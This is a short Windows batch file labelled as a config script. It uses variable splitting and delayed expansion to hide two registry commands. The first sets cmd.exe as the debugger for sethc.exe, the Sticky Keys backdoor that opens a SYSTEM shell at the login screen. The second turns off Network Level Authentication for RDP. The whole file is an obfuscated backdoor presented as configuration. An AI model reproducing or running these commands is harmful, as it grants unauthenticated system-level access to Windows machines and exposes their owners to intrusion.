REM config 7228 v2
@echo off
setlocal EnableDelayedExpansion
set ywi0=reg
set mlp1= 
set ddr2=add 
set oho3="HKLM\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Image File Execution Options\sethc.exe" /v Debugger /t REG_SZ /d
set tds4= "C:\windows\system32\cmd.exe" /f
!ywi0!!mlp1!!ddr2!!oho3!!tds4!
@echo off
setlocal EnableDelayedExpansion
set bgf0=reg add "HKLM\System\CurrentControlSet\Control\Terminal Server\WinStations\RDP-Tcp" /v Use
set fdo1=rAuthentication /t REG_DWORD /d 
set tde2=0 /f
!bgf0!!fdo1!!tde2!
